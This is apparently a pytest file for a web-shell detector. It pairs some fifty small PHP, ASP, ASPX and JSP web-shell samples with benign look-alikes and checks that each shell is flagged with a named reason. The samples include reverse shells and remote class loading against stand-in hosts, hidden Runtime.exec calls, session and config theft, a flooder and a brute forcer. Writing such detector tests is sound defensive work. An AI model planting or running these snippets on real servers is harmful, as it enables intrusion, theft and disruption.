"""Attack-tool behaviours, hidden names and the Java/.NET rules added for issue 13's recall
targets (``attack_tools``, ``hidden``, ``java``, ``dotnet``, ``php_behaviour``).

Every snippet below was written for this test (none is a corpus file, and none copies a name,
banner, password or address of one): each shows one behaviour and must be called a web shell
with a reason that names the behaviour; each benign counterpart is what an ordinary page doing a
similar job looks like, and must stay below the threshold.
"""

from __future__ import annotations

import pytest

from seawall.features.webshell import THRESHOLD, assess

# (file name, bytes, a phrase the reasons must contain)
SHELLS: dict[str, tuple[str, bytes, str]] = {
    "php_writable_scan": (
        "w.php",
        b"<?php function walk($d) { foreach (scandir($d) as $e) {\n"
        b"  if ($e == '.' || $e == '..' || !is_dir(\"$d/$e\")) continue;\n"
        b'  if (is_writable("$d/$e")) echo "$d/$e<br>";\n'
        b'  walk("$d/$e"); } }\n'
        b"walk($_GET['root']); ?>",
        "testing which can be written",
    ),
    "asp_writable_scan": (
        "w.asp",
        b'<% Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
        b'Function CanWrite(p)\n On Error Resume Next\n t = p & "\\" & fs.GetTempName\n'
        b" fs.CreateTextFile(t).Close : fs.DeleteFile t\n CanWrite = (Err.Number = 0)\n"
        b"End Function\n"
        b'Sub Scan(p)\n If CanWrite(p) Then Response.Write p & "<br>"\n'
        b' For Each d In fs.GetFolder(p).SubFolders\n  Scan p & "\\" & d.Name\n Next\n'
        b'End Sub\nScan Request.Form("start") %>',
        "testing which can be written",
    ),
    "jsp_writable_scan": (
        "w.jsp",
        b'<%@ page import="java.io.*" %><%!\n'
        b"void scan(File d, JspWriter out) throws IOException {\n"
        b"  File[] kids = d.listFiles(); if (kids == null) return;\n"
        b"  for (File k : kids) { if (k.isDirectory()) {\n"
        b"    if (k.canWrite()) out.println(k.getPath());\n"
        b"    scan(k, out); } } }\n"
        b'%><% scan(new File(request.getParameter("d")), out); %>',
        "testing which can be written",
    ),
    "php_database_dump": (
        "d.php",
        b"<?php $db = new mysqli('localhost', 'u', 'p', 'shop');\n"
        b"$out = fopen('dump.sql', 'w');\n"
        b"$list = $db->query('SHOW TABLES');\n"
        b"while ($row = $list->fetch_row()) {\n"
        b'  $rows = $db->query("SELECT * FROM `$row[0]`");\n'
        b'  while ($r = $rows->fetch_assoc()) fwrite($out, json_encode($r) . "\\n"); }\n'
        b"fclose($out); ?>",
        "dumps a whole database",
    ),
    "aspx_database_dump": (
        "d.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Page_Load(object s, EventArgs e) {\n"
        b'  var c = new System.Data.SqlClient.SqlConnection("Server=.;Integrated Security=true");\n'
        b'  var names = new System.Data.SqlClient.SqlCommand("select name from sys.tables", c)'
        b".ExecuteReader();\n"
        b"  while (names.Read()) {\n"
        b"    var t = names.GetString(0);\n"
        b'    var all = new System.Data.SqlClient.SqlCommand("select * from [" + t + "]", c);\n'
        b"    Response.Write(all.ExecuteScalar()); } }</script>",
        "dumps a whole database",
    ),
    "php_mail_beacon": (
        "m.php",
        b"<?php $where = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
        b"$to = 'drop@example.net';\n"
        b"mail($to, 'up', $where . \"\\n\" . $_SERVER['DOCUMENT_ROOT']); ?>",
        "e-mails the page's own location",
    ),
    "php_mass_mailer": (
        "mm.php",
        b"<?php $list = explode(\"\\n\", $_POST['targets']);\n"
        b"foreach ($list as $rcpt) {\n"
        b"  mail(trim($rcpt), $_POST['subject'], $_POST['body'], 'From: news@example.org'); } ?>",
        "mail() recipients, in a loop",
    ),
    "php_url_scanner": (
        "s.php",
        b"<?php $hosts = explode(\"\\n\", $_POST['hosts']);\n"
        b"foreach ($hosts as $h) {\n"
        b"  $u = 'http://' . trim($h) . '/admin/';\n"
        b"  $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u);\n"
        b"  curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); echo $h, strlen(curl_exec($c)); } ?>",
        "request-chosen URL, for each line",
    ),
    "php_session_theft": (
        "st.php",
        b"<?php $dir = session_save_path(); $h = opendir($dir);\n"
        b"while (($f = readdir($h)) !== false) {\n"
        b"  if (strpos($f, 'sess_') === 0) echo htmlspecialchars(file_get_contents(\"$dir/$f\"));"
        b" } ?>",
        "session files",
    ),
    "php_self_write": (
        "guest.php",
        b"<?php if (!empty($_POST['note'])) {\n"
        b"  $h = fopen(__FILE__, 'a'); fwrite($h, '<p>' . $_POST['note'] . '</p>'); fclose($h);"
        b" } ?><form method=post><textarea name=note></textarea></form>",
        "page's own script file",
    ),
    "php_file_read": (
        "get.php",
        b"<?php header('Content-Type: application/octet-stream'); readfile($_GET['path']); ?>",
        "reads a file at the path the request names",
    ),
    "jsp_file_read": (
        "get.jsp",
        b'<%@ page import="java.io.*" %><% InputStream in = new FileInputStream('
        b'request.getParameter("f"));\n'
        b"int b; while ((b = in.read()) != -1) out.write(b); %>",
        "reads a file at the path the request names",
    ),
    "php_wrapper_read": (
        "z.php",
        b"<?php $t = tempnam('/tmp', 'x');\n"
        b"if (copy('compress.zlib://' . $_POST['f'], $t)) echo htmlspecialchars("
        b"file_get_contents($t)); ?>",
        "through a PHP stream wrapper",
    ),
    "asp_hidden_progid": (
        "h.asp",
        b'<% Const K = "Scr" & "ipting.File" & "SystemObject"\n'
        b"Set fs = Server.CreateObject(K)\n"
        b'Response.Write fs.OpenTextFile(Server.MapPath(Request("n"))).ReadAll %>',
        "hidden assembled from pieces",
    ),
    "jsp_hidden_base64": (
        "h.jsp",
        b"<% String n = new String(java.util.Base64.getDecoder()\n"
        b'  .decode("amF2YS5sYW5nLlJ1bnRpbWU="));\n'
        b"Class<?> k = Class.forName(n);\n"
        b'Object r = k.getMethod("getRuntime").invoke(null);\n'
        b"k.getMethod(new String(new byte[] {101, 120, 101, 99}), String.class)"
        b'.invoke(r, request.getParameter("q")); %>',
        "'java.lang.runtime' hidden in base64",
    ),
    "jsp_char_codes": (
        "cc.jsp",
        b"<% String m = new String(new char[] {'e', 'x', 'e', 'c'});\n"
        b"Object o = Runtime.class.getMethod(m, String.class);\n"
        b'String q = request.getParameter("q"); %>',
        "'exec' hidden as character codes",
    ),
    "jsp_reflect_by_name": (
        "r.jsp",
        b'<% java.lang.reflect.Method m = Class.forName("java.lang.Runtime")'
        b'.getMethod("exec", String.class);\n'
        b'm.invoke(Runtime.class.getMethod("getRuntime").invoke(null),'
        b' request.getParameter("c")); %>',
        "called by name through reflection",
    ),
    "jsp_socket_shell": (
        "rs.jsp",
        b'<% java.net.Socket s = new java.net.Socket("192.0.2.7", 4444);\n'
        b'Process p = Runtime.getRuntime().exec("/bin/sh");\n'
        b"new Thread(() -> { try { p.getInputStream().transferTo(s.getOutputStream()); }"
        b" catch (Exception e) {} }).start();\n"
        b"s.getInputStream().transferTo(p.getOutputStream()); %>",
        "reverse or bind shell",
    ),
    "aspx_socket_shell": (
        "rs.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Page_Load(object s, EventArgs e) {\n"
        b'  var c = new System.Net.Sockets.TcpClient("192.0.2.7", 4444);\n'
        b'  var i = new System.Diagnostics.ProcessStartInfo("cmd.exe");\n'
        b"  i.RedirectStandardInput = true; i.UseShellExecute = false;\n"
        b"  var p = System.Diagnostics.Process.Start(i);\n"
        b"  c.GetStream().CopyTo(p.StandardInput.BaseStream); }</script>",
        "reverse or bind shell",
    ),
    "jsp_embedded_class": (
        "ec.jsp",
        b"<%! class L extends ClassLoader { Class<?> d(byte[] b) {"
        b" return defineClass(null, b, 0, b.length); } } %>\n"
        b"<% byte[] b = java.util.Base64.getDecoder()\n"
        b'  .decode("yv66vgAAADQAHQoABgAPCQAQABEIABIKABM");\n'
        b"new L().d(b).newInstance(); %>",
        "compiled Java class is embedded",
    ),
    "jsp_embedded_serialized": (
        "es.jsp",
        b"<% byte[] b = java.util.Base64.getDecoder()\n"
        b'  .decode("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA");\n'
        b"new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(b)).readObject(); %>",
        "serialized Java object is embedded",
    ),
    "jsp_remote_jndi": (
        "j.jsp",
        b'<% new javax.naming.InitialContext().lookup("ldap://192.0.2.7:1389/Obj"); %>',
        "remote ldap/rmi name",
    ),
    "jsp_remote_class_loader": (
        "u.jsp",
        b"<% java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[] {\n"
        b'    new java.net.URL("http://192.0.2.7/t.jar") });\n'
        b'l.loadClass("T").getDeclaredConstructor().newInstance(); %>',
        "class loader pointed at a remote URL",
    ),
    "jsp_xslt_java": (
        "x.jsp",
        b'<% String x = "<xsl:stylesheet version=\\"1.0\\" xmlns:xsl=\\"http://www.w3.org/1999/'
        b'XSL/Transform\\" xmlns:r=\\"http://xml.apache.org/xalan/java/java.lang.Runtime\\">'
        b'<xsl:template match=\\"/\\"><xsl:value-of select=\\"r:exec(r:getRuntime(),\'id\')\\"/>'
        b'</xsl:template></xsl:stylesheet>";\n'
        b"javax.xml.transform.TransformerFactory.newInstance().newTransformer(\n"
        b"  new javax.xml.transform.stream.StreamSource(new java.io.StringReader(x))); %>",
        "XSLT stylesheet that calls Java",
    ),
    "jsp_include": (
        "in.jsp",
        b'<% request.getRequestDispatcher(request.getParameter("p")).include(request, response);'
        b" %>",
        "includes or forwards to a request-chosen page",
    ),
    "jsp_beanshell": (
        "bsh.jsp",
        b'<% Object r = new bsh.Interpreter().eval(request.getParameter("c")); out.print(r); %>',
        "BeanShell",
    ),
    "jsp_decrypted_channel": (
        "ch.jsp",
        b"<%! class U extends ClassLoader { U(ClassLoader c) { super(c); }\n"
        b"  Class<?> g(byte[] b) { return super.defineClass(b, 0, b.length); } } %>\n"
        b'<% javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES");\n'
        b'c.init(2, new javax.crypto.spec.SecretKeySpec("0123456789abcdef".getBytes(), "AES"));\n'
        b"byte[] b = c.doFinal(java.util.Base64.getDecoder().decode("
        b"request.getReader().readLine()));\n"
        b"new U(getClass().getClassLoader()).g(b).newInstance(); %>",
        "decrypted with a key written in the page",
    ),
    "jspx_character_references": (
        "cr.jspx",
        b'<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>\n'
        b"&#82;untime.get&#82;untime().exec(request.getParameter(&#34;c&#34;));\n"
        b"</jsp:scriptlet></jsp:root>",
        "request data → Runtime.exec",
    ),
    "php_register_globals_write": (
        "rg.php",
        b'<form method=post><input name="folder"><input name="fname"><textarea name="body">'
        b"</textarea></form>\n"
        b"<?php if ($fname != '') { $h = fopen(\"$folder/$fname\", 'w'); fwrite($h, $body);"
        b" fclose($h); } ?>",
        "a file written at a form-chosen path with form content",
    ),
    "aspx_upload_as_named": (
        "up2.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Save(object s, EventArgs e) {\n"
        b'  Up.PostedFile.SaveAs(Server.MapPath("/") + Up.FileName); }</script>\n'
        b'<form runat="server"><asp:FileUpload id="Up" runat="server"/></form>',
        "file written at a request-chosen path",
    ),
    "jsp_comment_between_tokens": (
        "cm.jsp",
        b'<% String c = request.getParameter("c");\nRuntime/**/.getRuntime()/* x */.exec(c); %>',
        "request data → Runtime.exec",
    ),
    "jsp_few_unicode_escapes": (
        "ue.jsp",
        b'<% String c = request.getParameter("c");\nRuntime.getRuntime().\\u0065xec(c); %>',
        "request data → Runtime.exec",
    ),
    "jsp_spring_controller": (
        "sp.jsp",
        b"<%! public class Evil { public void run(HttpServletRequest r) throws Exception {\n"
        b'    Runtime.getRuntime().exec(r.getParameter("c")); } } %>\n'
        b"<% Object m = ctx.getBean(RequestMappingHandlerMapping.class);\n"
        b"((RequestMappingHandlerMapping) m).registerMapping(info, new Evil(), method); %>",
        "controller mapping at run time",
    ),
    "jsp_static_include_data": (
        "si.jsp",
        b'<%@ page import="java.io.*" %><%@ include file="/images/logo.png" %>',
        "compiles a data file into the page",
    ),
    "jsp_reversed_name": (
        "rv.jsp",
        b'<% String c = request.getParameter("c");\n'
        b'Object rt = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString());'
        b" %>",
        "'java.lang.runtime' hidden reversed",
    ),
    "asp_replaced_name": (
        "rp.asp",
        b'<% Set o = Server.CreateObject(Replace("WScr#ipt.Sh#ell", "#", ""))\n'
        b'o.Run Request("c"), 0, True %>',
        "'wscript.shell' hidden behind filler",
    ),
    "php_request_include": (
        "inc.php",
        b"<?php if (isset($_COOKIE['t'])) { include $_COOKIE['t']; } ?>",
        "request data → include/require",
    ),
    "php_ld_preload": (
        "ld.php",
        b"<?php file_put_contents('/tmp/l.so', base64_decode($_POST['so']));\n"
        b"putenv('LD_PRELOAD=/tmp/l.so'); mail('x@example.org', '', '', ''); ?>",
        "sets LD_PRELOAD",
    ),
    "php_ffi": (
        "ffi.php",
        b"<?php $c = FFI::cdef('int system(const char *command);', 'libc.so.6');\n"
        b"$c->system($_POST['c']); ?>",
        "calls C functions through PHP FFI (system",
    ),
    "php_htaccess_handler": (
        "ht.php",
        b"<?php $h = fopen(dirname(__FILE__) . '/.htaccess', 'w');\n"
        b'fwrite($h, "AddHandler application/x-httpd-php .png\\n"); fclose($h); ?>',
        "writes an .htaccess",
    ),
    "php_symlinks": (
        "sl.php",
        b"<?php foreach (file('/etc/passwd') as $line) { $u = strtok($line, ':');\n"
        b'  @symlink("/home/$u/public_html/config.php", "cfg/$u.txt"); } ?>',
        "symbolic links to other users' files",
    ),
    "asp_shell_execute": (
        "se.asp",
        b'<% Set a = Server.CreateObject("Shell.Application")\n'
        b'a.ShellExecute "cmd.exe", "/c " & Request.Form("c"), "", "open", 0 %>',
        "Shell.Application ShellExecute",
    ),
    "asp_file_manager": (
        "fm.asp",
        b'<% Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
        b'p = Request("p") : t = Request("to")\n'
        b'Select Case Request("a")\n'
        b' Case "rm": fs.DeleteFile p\n Case "cp": fs.CopyFile p, t\n Case "mv": fs.MoveFile p, t\n'
        b' Case "md": fs.CreateFolder p\n Case "rd": fs.DeleteFolder p\n'
        b' Case "cpd": fs.CopyFolder p, t\nEnd Select %>',
        "file manager: 6 file operations on request-chosen paths",
    ),
    "php_port_scanner": (
        "ps.php",
        b"<?php $h = $_POST['host'];\n"
        b"for ($p = (int) $_POST['from']; $p <= (int) $_POST['to']; $p++) {\n"
        b'  if ($s = @fsockopen($h, $p, $en, $es, 0.3)) { echo "$p open<br>"; fclose($s); } } ?>',
        "a port scanner",
    ),
    "php_udp_flood": (
        "fl.php",
        b"<?php $stop = time() + (int) $_GET['secs'];\n"
        b"while (time() < $stop) { $s = fsockopen('udp://' . $_GET['target'], mt_rand(1, 65535));\n"
        b"  fwrite($s, str_repeat(chr(65), 4096)); fclose($s); } ?>",
        "a flooder",
    ),
    "php_brute_forcer": (
        "bf.php",
        b"<?php $names = explode(\"\\n\", $_POST['names']);\n"
        b"foreach ($names as $n) { $c = ftp_connect($_POST['host']);\n"
        b"  if (@ftp_login($c, trim($n), $_POST['guess'])) echo htmlspecialchars($n); } ?>",
        "a brute forcer",
    ),
    "php_config_grabber": (
        "cg.php",
        b"<?php foreach (file('/etc/passwd') as $row) { $who = strtok($row, ':');\n"
        b'  $cfg = @file_get_contents("/home/$who/public_html/config.php");\n'
        b"  if ($cfg) echo '<pre>' . htmlspecialchars($cfg) . '</pre>'; } ?>",
        "other users' home folders",
    ),
    "asp_mass_defacer": (
        "df.asp",
        b'<% Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
        b"Sub Walk(p)\n"
        b' fs.CreateTextFile(p & "\\index.html", True).Write "hello"\n'
        b' For Each d In fs.GetFolder(p).SubFolders : Walk p & "\\" & d.Name : Next\n'
        b'End Sub\nWalk Server.MapPath("/") %>',
        "a mass defacer",
    ),
    "aspx_powershell": (
        "ps.aspx",
        b'<%@ Page Language="C#" %><% var ps = System.Management.Automation.PowerShell.Create();\n'
        b'ps.AddScript(Request.Form["c"]); foreach (var o in ps.Invoke()) Response.Write(o); %>',
        "PowerShell run inside the page's process",
    ),
    "aspx_binary_formatter": (
        "bf.aspx",
        b'<%@ Page Language="C#" %><% var f = new System.Runtime.Serialization.Formatters'
        b".Binary.BinaryFormatter();\nf.Deserialize(Request.InputStream); %>",
        "Deserialize with a .NET formatter",
    ),
    "asp_script_control": (
        "sc.asp",
        b'<% Set s = Server.CreateObject("MSScriptControl.ScriptControl")\n'
        b's.Language = "VBScript"\ns.AddCode Request("code")\ns.Run "Main" %>',
        "MSScriptControl runs script code",
    ),
    "php_download_and_plant": (
        "up.php",
        b"<?php $c = curl_init('http://198.51.100.4/x.txt');\n"
        b"curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n"
        b"file_put_contents('wp-info.php', curl_exec($c)); ?>",
        "downloads code from a URL and saves it as a server script",
    ),
    "aspx_download_and_plant": (
        "dl.aspx",
        b'<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile(\n'
        b'  "http://198.51.100.4/a.txt", Server.MapPath("~/help.aspx")); %>',
        "downloads code from a URL and saves it as a server script",
    ),
}

BENIGN: dict[str, tuple[str, bytes]] = {
    "php_walk_without_probe": (
        "size.php",
        b"<?php function size($d) { $n = 0; foreach (scandir($d) as $e) {\n"
        b"  if ($e == '.' || $e == '..') continue;\n"
        b'  $n += is_dir("$d/$e") ? size("$d/$e") : filesize("$d/$e"); } return $n; }\n'
        b"if (!is_writable(WP_CONTENT_DIR)) echo 'read-only';\n"
        b"echo size(WP_CONTENT_DIR), htmlspecialchars($_GET['tab'] ?? ''); ?>",
    ),
    "php_table_exists": (
        "upgrade.php",
        b"<?php if (!$wpdb->get_var(\"SHOW TABLES LIKE '{$wpdb->prefix}log'\")) {\n"
        b'  $wpdb->query("CREATE TABLE {$wpdb->prefix}log (id INT)"); }\n'
        b'foreach ($ids as $id) { $rows = $wpdb->get_results("SELECT * FROM $wpdb->users"); }'
        b"\n$page = (int) $_GET['paged']; ?>",
    ),
    "php_contact_form": (
        "contact.php",
        b"<?php if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n"
        b"  $body = strip_tags($_POST['message']) . \"\\nfrom \" . $_SERVER['REMOTE_ADDR'];\n"
        b"  mail(get_option('admin_email'), 'Contact form', $body); } ?>",
    ),
    "php_newsletter": (
        "news.php",
        b"<?php $subs = $db->query('SELECT email FROM subscribers WHERE active = 1');\n"
        b"foreach ($subs as $s) { mail($s['email'], $issue->title, $issue->body); }\n"
        b"$preview = isset($_GET['preview']); ?>",
    ),
    "php_session_handler": (
        "sess.php",
        b"<?php class FileSessions { function read($id) {\n"
        b'  return (string) @file_get_contents("$this->path/sess_$id"); }\n'
        b'  function gc($max) { foreach (glob("$this->path/sess_*") as $f) {\n'
        b"    if (filemtime($f) + $max < time()) unlink($f); } } } ?>",
    ),
    "php_download_basename": (
        "dl.php",
        b"<?php $f = '/srv/files/' . basename($_GET['f']);\n"
        b"if (is_file($f)) { header('Content-Type: application/pdf'); readfile($f); } ?>",
    ),
    "php_request_log": (
        "log.php",
        b"<?php file_put_contents(__DIR__ . '/access.log', date('c') . ' ' ."
        b" $_SERVER['REMOTE_ADDR'] . \"\\n\", FILE_APPEND);\n"
        b"echo filemtime(__FILE__), htmlspecialchars($_GET['q'] ?? ''); ?>",
    ),
    "jsp_joined_path": (
        "p.jsp",
        b'<% String base = "/usr/" + "share/" + "app"; String q = request.getParameter("q");\n'
        b'String logo = "aGVsbG8gd29ybGQ="; %><%= base %>',
    ),
    "jsp_forward_fixed": (
        "fw.jsp",
        b'<% String id = request.getParameter("id");\n'
        b'request.setAttribute("id", id);\n'
        b'request.getRequestDispatcher("/WEB-INF/views/item.jsp").forward(request, response); %>',
    ),
    "jsp_socket_client": (
        "mail.jsp",
        b'<% java.net.Socket s = new java.net.Socket("smtp.example.org", 25);\n'
        b's.getOutputStream().write("HELO example.org\\r\\n".getBytes());\n'
        b'String who = request.getParameter("who"); %>',
    ),
    "jsp_accept_header_and_css": (
        "h.jsp",
        b'<style>/* layout */ body { margin: 0 }</style><% response.setHeader("Accept", "*/*");\n'
        b'String q = request.getParameter("q"); out.print(q.length()); /* done */ %>',
    ),
    "jsp_static_include_fragment": (
        "layout.jsp",
        b'<%@ include file="/WEB-INF/jspf/header.jspf" %><%= request.getParameter("t") %>',
    ),
    "jsp_reverse_for_display": (
        "rev.jsp",
        b'<% String w = request.getParameter("w");\n'
        b'String r = new StringBuilder("olleh").reverse().toString(); %><%= r %>',
    ),
    "php_include_by_host": (
        "config.php",
        b"<?php $site = preg_replace('/:.*/', '', $_SERVER['HTTP_HOST']);\n"
        b"$file = '/etc/app/config-' . strtolower($site) . '.php';\n"
        b"if (file_exists($file)) { require_once $file; } ?>",
    ),
    "php_htaccess_read": (
        "status.php",
        b"<?php $rules = file_get_contents(ABSPATH . '.htaccess');\n"
        b"echo strpos($rules, 'RewriteEngine') !== false ? 'on' : 'off'; ?>",
    ),
    "php_db_retry": (
        "db.php",
        b"<?php for ($try = 1; $try <= 3; $try++) {\n"
        b"  $link = @mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD); if ($link) break; sleep(1); }\n"
        b"$q = isset($_GET['q']) ? $_GET['q'] : ''; ?>",
    ),
    "php_health_check": (
        "health.php",
        b"<?php foreach (array(80, 443) as $port) {\n"
        b"  $ok = @fsockopen('127.0.0.1', $port, $en, $es, 1);\n"
        b"  echo $port, $ok ? ' up' : ' down'; }\n"
        b"echo htmlspecialchars($_GET['probe'] ?? ''); ?>",
    ),
    "aspx_json_deserialize": (
        "order.aspx",
        b'<%@ Page Language="C#" %><% var o = new System.Web.Script.Serialization'
        b'.JavaScriptSerializer().Deserialize<Order>(Request.Form["o"]); %>',
    ),
    "php_cache_remote_json": (
        "feed.php",
        b"<?php $c = curl_init('https://api.example.org/feed.json');\n"
        b"curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n"
        b"file_put_contents(__DIR__ . '/cache/feed.json', curl_exec($c)); ?>",
    ),
    "aspx_upload_checked": (
        "up3.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Save(object s, EventArgs e) {\n"
        b"  string name = System.IO.Path.GetFileName(Up.FileName);\n"
        b'  if (!name.EndsWith(".pdf")) return;\n'
        b'  Up.SaveAs(Server.MapPath("~/docs/") + name); }</script>\n'
        b'<form runat="server"><asp:FileUpload id="Up" runat="server"/></form>',
    ),
}


@pytest.mark.parametrize("case", sorted(SHELLS))
def test_behaviour_is_a_web_shell_with_a_named_reason(case: str) -> None:
    name, data, phrase = SHELLS[case]
    verdict = assess(data, name)
    assert verdict.is_webshell, (case, verdict.score, verdict.reasons)
    assert any(phrase in reason for reason in verdict.reasons), verdict.reasons


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_benign_counterpart_stays_below_the_threshold(case: str) -> None:
    name, data = BENIGN[case]
    verdict = assess(data, name)
    assert verdict.score < THRESHOLD, (case, verdict.score, verdict.reasons)
